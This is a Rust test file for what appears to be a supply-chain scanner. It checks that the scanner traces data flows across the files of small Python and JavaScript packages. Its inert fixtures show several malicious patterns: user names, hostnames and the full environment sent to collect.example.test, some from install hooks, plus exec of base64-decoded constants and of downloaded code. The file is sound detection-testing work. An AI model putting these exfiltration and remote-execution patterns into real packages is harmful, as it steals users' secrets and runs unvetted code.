//! Packages of several files through the whole flow: what one file reads and another sends, what a third decodes, and what
//! only runs when somebody calls it. Inert: hosts end in `.test`.

mod shared;

use doorward_model::{Fact, Level, Report, Told};
use shared::audit;

/// The flows that link tells, as `from > to what host`, and the levels and rules of what was found, notes apart.
fn seen(report: &Report) -> (Vec<String>, Vec<String>) {
    let text = |fact: &Fact, name: &str| fact.text(name).unwrap_or_default().to_owned();
    let facts = report.tree.units.iter().flat_map(|unit| &unit.facts).filter(|(_, fact)| fact.kind.name == "flow");
    let mut flows: Vec<String> = facts
        .map(|(_, fact)| format!("{} > {} {} {}", text(fact, "from"), text(fact, "to"), text(fact, "what"), text(fact, "host")))
        .map(|flow| flow.trim().to_owned())
        .collect();
    flows.sort();
    let found = report.judgement.findings.iter().filter(|finding| finding.level >= Level::Review);
    (flows, found.map(|finding| format!("{:?} {}", finding.level, finding.rule)).collect())
}

/// What is told of a package: its flows from file to file, and a finding that must be among those made; none where it is empty.
fn check(title: &str, package: &str, flows: &[&str], found: &str) {
    let report = audit(package);
    let (told, all) = seen(&report);
    assert_eq!(told, flows, "{title}: {all:?}");
    let holds = if found.is_empty() { all.is_empty() } else { all.iter().any(|one| one == found) };
    assert!(holds, "{title}: {all:?}, not {found}");
}

/// Steps of a way as `file:line does`; the file is empty where it is the one of the evidence.
fn ways(report: &Report) -> Vec<Vec<String>> {
    let evidence =
        report.judgement.findings.iter().filter(|finding| finding.level >= Level::Review).flat_map(|one| &one.evidence);
    let step = |told: &Told| format!("{}:{} {}", String::from_utf8_lossy(&told.file), told.line, told.does);
    evidence.filter(|one| &*one.kind == "flow").map(|one| one.way.iter().map(step).collect()).collect()
}

#[test]
fn each_step_of_a_way_has_its_file_and_line() {
    let report = audit(
        "-- tool/__init__.py --\nfrom .send import out\nimport base64, getpass\nname = getpass.getuser()\n\
         out(base64.b64encode(name.encode()))\n\
         -- tool/send.py --\nimport requests\n\ndef out(data):\n    requests.post('https://collect.example.test/', data=data)\n",
    );
    let expected = [
        "tool/__init__.py:3 reads the user's name",
        "tool/__init__.py:4 hands it on",
        "tool/__init__.py:4 writes it as base64, or reads it back",
        ":3 hands it on",
        ":4 sends it to host collect.example.test",
    ];
    let told = ways(&report);
    assert!(told.iter().any(|way| way == &expected), "{told:#?}");
}

#[test]
fn a_long_way_says_that_steps_are_left_out() {
    let mut package = String::from("-- tool/__init__.py --\nimport getpass\nfrom .a import send\nv0 = getpass.getuser()\n");
    for at in 1..30 {
        package.push_str(&format!("v{at} = str(v{})\n", at - 1));
    }
    package.push_str("send(v29)\n-- tool/a.py --\nimport requests\ndef send(data):\n    requests.post('https://collect.example.test/', data=data)\n");
    let told = ways(&audit(&package));
    let way = told.first().expect("a flow is told");
    assert!(way.iter().any(|step| step.ends_with("steps that are not shown")), "{way:#?}");
    assert_eq!(way.last().map(String::as_str), Some(":3 sends it to host collect.example.test"), "{way:#?}");
}

#[test]
fn python_files_are_joined() {
    check(
        "source in one file, sink in another",
        "-- tool/__init__.py --\nfrom .send import out\nimport getpass\nout(getpass.getuser())\n\
         -- tool/send.py --\nimport requests\ndef out(data):\n    requests.post('https://collect.example.test/', data=data)\n",
        &["host.read > net.send user collect.example.test"],
        "Alarm flow/host-facts-sent-early",
    );
    check(
        "what a function of another file gives, under another name, sent to a host from a third",
        "-- tool/__init__.py --\nfrom .conf import HOST\nfrom .who import collect as c\nimport requests\n\
         requests.post('https://' + HOST + '/x', json=c())\n\
         -- tool/conf.py --\nHOST = 'collect' + '.example.test'\n\
         -- tool/who.py --\nimport getpass\ndef collect():\n    return {'u': getpass.getuser()}\n",
        &["host.read > net.send user collect.example.test"],
        "Alarm flow/host-facts-sent-early",
    );
    check(
        "through a name that a package offers again, and a class",
        "-- setup.py --\nfrom setuptools import setup\nimport tool.parts as p\np.Sender('x').send(p.who())\nsetup(name='tool')\n\
         -- tool/__init__.py --\n\
         -- tool/parts/__init__.py --\nfrom .a import *\nfrom .b import Sender\n\
         -- tool/parts/a.py --\nimport socket\ndef who():\n    return socket.gethostname()\n\
         -- tool/parts/b.py --\nimport requests\nclass Sender:\n    def __init__(self, x):\n        self.x = x\n\
         \x20   def send(self, data):\n        requests.get('https://collect.example.test/', params=data)\n",
        &["host.read > net.send hostname collect.example.test"],
        "Alarm flow/host-facts-sent-early",
    );
    check(
        "through functions of the file of the sink",
        "-- tool/__init__.py --\nfrom .send import out\nimport getpass\nout(data=getpass.getuser())\n\
         -- tool/send.py --\nimport requests\ndef out(data):\n    body = {'x': data}\n    post(body)\n\
         def post(body):\n    requests.post('https://collect.example.test/', json=body)\n",
        &["host.read > net.send user collect.example.test"],
        "Alarm flow/host-facts-sent-early",
    );
    check(
        "files that import each other",
        "-- tool/__init__.py --\nfrom . import a\n\
         -- tool/a.py --\nfrom . import b\nimport getpass\ndef get():\n    return getpass.getuser()\nb.go()\n\
         -- tool/b.py --\nfrom . import a\nimport requests\ndef go():\n    requests.post('https://collect.example.test/', data=a.get())\n",
        &["host.read > net.send user collect.example.test"],
        "Alarm flow/host-facts-sent-early",
    );
    check(
        "a payload in one file, its decoder in another",
        "-- tool/__init__.py --\nfrom .data import TEXT\nfrom .codec import plain\nexec(plain(TEXT))\n\
         -- tool/data.py --\nTEXT = 'cHJpbnQoMSk='\n\
         -- tool/codec.py --\nimport base64\ndef plain(text):\n    return base64.b64decode(text)\n",
        &["decode > code.eval TEXT"],
        "Alarm flow/decoded-constant-run",
    );
    check(
        "a clean twin: nothing of what is read is sent",
        "-- tool/__init__.py --\nfrom .send import out\nimport getpass\nname = getpass.getuser()\nout('1')\n\
         -- tool/send.py --\nimport requests\ndef out(data):\n    requests.post('https://collect.example.test/', data=data)\n",
        &[],
        "",
    );
    check(
        "only where somebody calls it",
        "-- tool/__init__.py --\nfrom .net import load\n\
         -- tool/net.py --\nimport requests\ndef load():\n    text = requests.get('https://updates.example.test/x').text\n    exec(text)\n",
        &[],
        "Review flow/downloaded-code-run",
    );
}

#[test]
fn javascript_files_are_joined() {
    check(
        "source in one file, sink in another",
        "-- package.json --\n{\"name\": \"x\", \"version\": \"1.0.0\", \"scripts\": {\"preinstall\": \"node index.js\"}}\n\
         -- index.js --\nconst os = require('os');\nconst { send } = require('./lib/send');\nsend(os.hostname());\n\
         -- lib/send.js --\nconst https = require('https');\n\
         exports.send = function (text) { https.get('https://collect.example.test/?h=' + text); };\n",
        &["host.read > net.send hostname collect.example.test"],
        "Alarm flow/host-facts-sent-early",
    );
    check(
        "modules of both kinds, an index, a default, a constant",
        "-- package.json --\n{\"name\": \"x\", \"version\": \"1.0.0\", \"main\": \"index.mjs\"}\n\
         -- index.mjs --\nimport load from './lib/index.js';\nload();\n\
         -- lib/index.js --\nimport { HOST } from './conf.js';\nimport who from './who.js';\n\
         export default function () { fetch(HOST + '/x', { method: 'POST', body: who() }); }\n\
         -- lib/conf.js --\nexport const HOST = 'https://' + 'collect.example.test';\n\
         -- lib/who.js --\nimport os from 'os';\nconst who = () => os.userInfo().username;\nexport default who;\n",
        &["host.read > net.send user collect.example.test"],
        "Alarm flow/host-facts-sent-early",
    );
    check(
        "what another file offers again",
        "-- package.json --\n{\"name\": \"x\", \"version\": \"1.0.0\", \"scripts\": {\"postinstall\": \"node a.js\"}}\n\
         -- a.js --\nconst lib = require('./lib');\nlib.run(process.env);\n\
         -- lib/index.js --\nmodule.exports = require('./run');\n\
         -- lib/run.js --\nconst https = require('https');\nfunction run(all) {\n\
         \x20 const r = https.request({ hostname: 'collect.example.test', method: 'POST' });\n  r.write(JSON.stringify(all));\n  r.end();\n}\n\
         module.exports = { run };\n",
        &["env.read > net.send all collect.example.test"],
        "Alarm flow/environment-sent-early",
    );
    check(
        "a clean twin: nothing of what is read is sent",
        "-- package.json --\n{\"name\": \"x\", \"version\": \"1.0.0\", \"main\": \"tool.js\", \"homepage\": \"https://example.test/x\", \"scripts\": {\"preinstall\": \"node index.js\"}}\n\
         -- index.js --\nconst os = require('os');\nconst { send } = require('./lib/send');\nos.hostname();\nsend('1');\n\
         -- lib/send.js --\nconst https = require('https');\n\
         exports.send = function (text) { https.get('https://collect.example.test/?h=' + text); };\n\
         -- tool.js --\nexports.add = (one, other) => one + other;\nexports.twice = (one) => exports.add(one, one);\n",
        &[],
        "",
    );
}

/// A finding in one file keeps its level where the file is split in two.
#[test]
fn splitting_a_file_keeps_the_level() {
    let head = "import os, requests\nfrom setuptools import setup\nsetup(name='x')\n";
    let one = format!("-- setup.py --\n{head}requests.post('https://collect.example.test/', json=dict(os.environ))\n");
    let two = format!(
        "-- setup.py --\n{head}from part import send\nsend(dict(os.environ))\n\
         -- part.py --\nimport requests\ndef send(all):\n    requests.post('https://collect.example.test/', json=all)\n"
    );
    let found = |package: &str| seen(&audit(package)).1;
    assert_eq!(found(&one), ["Alarm flow/environment-sent-early"]);
    assert_eq!(found(&two), found(&one));
}
